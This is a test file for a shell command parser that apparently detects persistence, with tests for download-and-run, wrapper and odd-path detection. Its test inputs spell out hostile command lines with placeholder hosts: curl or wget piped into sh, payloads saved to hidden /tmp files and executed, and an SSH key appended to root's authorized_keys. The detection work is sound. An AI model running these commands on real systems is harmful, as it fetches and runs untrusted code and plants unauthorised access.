// Tests for the shell command reader: splitting, wrappers, interpreters, download-and-run forms and
// odd program paths, on the command lines persistence places really hold.
import { describe, expect, it } from 'vitest';
import {
  commandTargets,
  downloadExec,
  executedPaths,
  mentionedPaths,
  oddProgramPath,
  splitCommands,
} from './command.js';

describe('splitCommands', () => {
  it('splits on operators outside quotes and keeps quoted text whole', () => {
    expect(splitCommands(`a 'x | y' && b "c;d" | e; f`)).toEqual([
      { words: ['a', 'x | y'], next: '&&' },
      { words: ['b', 'c;d'], next: '|' },
      { words: ['e'], next: ';' },
      { words: ['f'], next: '' },
    ]);
  });

  it("records a redirection target and carries a group's pipe to its last command", () => {
    expect(splitCommands('(curl -s u || wget -qO- u) | sh >/dev/null 2>&1')).toEqual([
      { words: ['curl', '-s', 'u'], next: '||' },
      { words: ['wget', '-qO-', 'u'], next: '|' },
      { words: ['sh', '>/dev/null', '>1'], next: '' },
    ]);
  });
});

describe('executedPaths', () => {
  it('looks through wrappers, assignments and interpreters', () => {
    expect(executedPaths('SERVICE_MODE=1 nohup setsid /tmp/x -c y &')).toEqual(['/tmp/x']);
    expect(executedPaths('sudo -u www-data /opt/a/b')).toEqual(['/opt/a/b']);
    expect(executedPaths('sh /var/tmp/.l.sh && bash -c "echo hi"')).toEqual(['sh', '/var/tmp/.l.sh', 'bash']);
    expect(executedPaths('start-stop-daemon --start --quiet --exec /usr/sbin/nginx')).toEqual([
      '/usr/sbin/nginx',
    ]);
    expect(executedPaths('timeout 60 /usr/local/bin/job')).toEqual(['/usr/local/bin/job']);
  });
});

describe('downloadExec', () => {
  it('recognises pipes into interpreters, sh -c "$(curl)", and download-then-run', () => {
    expect(downloadExec('curl -fsSL http://h/a.sh | bash')).toEqual({
      downloader: 'curl',
      how: 'pipe',
      url: 'http://h/a.sh',
    });
    expect(downloadExec('wget -q -O - http://h/x | base64 -d | sh')).toMatchObject({ how: 'pipe' });
    expect(downloadExec('bash -c "$(curl -fsSL https://h/i.sh)"')).toMatchObject({
      downloader: 'curl',
      how: 'pipe',
    });
    expect(downloadExec("/bin/sh -c 'wget -qO- http://h/u | sh'")).toMatchObject({
      downloader: 'wget',
      how: 'pipe',
    });
    expect(downloadExec('curl -o /tmp/x http://h/x; chmod +x /tmp/x; /tmp/x')).toEqual({
      downloader: 'curl',
      how: 'file',
      savedTo: '/tmp/x',
      url: 'http://h/x',
    });
    expect(downloadExec('wget http://h/l.sh -O /var/tmp/.l.sh && sh /var/tmp/.l.sh')).toMatchObject({
      how: 'file',
    });
  });

  it('does not take downloads that are not run for download-and-run', () => {
    expect(downloadExec('curl -fsS -m 10 https://hc-ping.com/abc > /dev/null')).toBeUndefined();
    expect(downloadExec('curl -o /var/backups/f.xml https://example.org/f.xml')).toBeUndefined();
    expect(
      downloadExec('wget -qO- http://localhost/status | grep -q ok || systemctl restart app'),
    ).toBeUndefined();
    expect(downloadExec('curl -s http://h/a && echo done | sh')).toBeUndefined();
  });
});

describe('paths', () => {
  it('lists absolute paths a script mentions and what a command starts', () => {
    expect(
      mentionedPaths('cp x /usr/local/lib/.c/k; echo "k" >> /root/.ssh/authorized_keys\nD=/opt/x/'),
    ).toEqual(['/usr/local/lib/.c/k', '/root/.ssh/authorized_keys', '/opt/x']);
    expect(commandTargets('curl -o /var/tmp/.l.sh http://h/l && sh /var/tmp/.l.sh')).toEqual([
      '/var/tmp/.l.sh',
    ]);
  });

  it('grades odd program paths and spares tool-chain dot-directories', () => {
    expect(oddProgramPath('/dev/shm/x')?.level).toBe('high');
    expect(oddProgramPath('/dev/null')).toBeUndefined();
    expect(oddProgramPath('/usr/lib/ /x')?.level).toBe('high');
    expect(oddProgramPath('/home/a/.cache/.x/k')?.why.en).toBe('a hidden directory (.x)');
    expect(oddProgramPath('/root/.acme.sh/acme.sh')).toBeUndefined();
    expect(oddProgramPath('/home/a/.local/bin/t')).toBeUndefined();
    expect(oddProgramPath('/usr/sbin/cron')).toBeUndefined();
    expect(oddProgramPath('relative/x')).toBeUndefined();
  });

  it('gives the same answers when asked again about a text, and callers cannot change them', () => {
    const line = 'nohup curl -s http://x.example/a.sh -o /tmp/.a.sh; chmod +x /tmp/.a.sh; /tmp/.a.sh &';
    const first = { run: executedPaths(line), dl: downloadExec(line), targets: commandTargets(line) };
    expect(first.run).toEqual(['curl', 'chmod', '/tmp/.a.sh']);
    expect(first.dl).toEqual({
      downloader: 'curl',
      how: 'file',
      savedTo: '/tmp/.a.sh',
      url: 'http://x.example/a.sh',
    });
    first.run.push('/tmp/changed');
    first.dl!.savedTo = '/tmp/changed';
    expect(executedPaths(line)).toEqual(['curl', 'chmod', '/tmp/.a.sh']);
    expect(downloadExec(line)?.savedTo).toBe('/tmp/.a.sh');
    expect(commandTargets(line)).toEqual(first.targets);
    expect(downloadExec('/usr/bin/true')).toBeUndefined();
    expect(downloadExec('/usr/bin/true')).toBeUndefined();
    // A nested text answers as before, whatever the outer calls kept.
    expect(downloadExec(`sh -c "${line}"`)?.savedTo).toBe('/tmp/.a.sh');
    // More texts than the memo holds: still the same answers.
    for (let i = 0; i < 5000; i++) expect(executedPaths(`/opt/p${i} -x`)).toEqual([`/opt/p${i}`]);
    expect(executedPaths(line)).toEqual(['curl', 'chmod', '/tmp/.a.sh']);
  });
});
